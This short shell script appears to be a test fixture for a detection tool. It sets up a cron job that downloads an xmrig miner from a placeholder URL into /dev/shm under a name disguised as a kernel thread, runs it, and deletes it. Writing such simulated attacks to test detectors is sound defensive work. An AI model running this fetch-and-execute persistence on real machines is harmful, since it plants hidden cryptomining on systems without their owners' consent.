#!/bin/sh
# malicious: a cron job fetches a miner into /dev/shm and runs it from there (pool on 127.0.0.1:3333)
. "$(dirname "$0")/../../lib.sh"
$B/cron "curl -s -o /dev/shm/quell-jlive-kthreadd $URL/xmrig && chmod +x /dev/shm/quell-jlive-kthreadd && /dev/shm/quell-jlive-kthreadd; rm -f /dev/shm/quell-jlive-kthreadd"
rm -f /dev/shm/quell-jlive-kthreadd
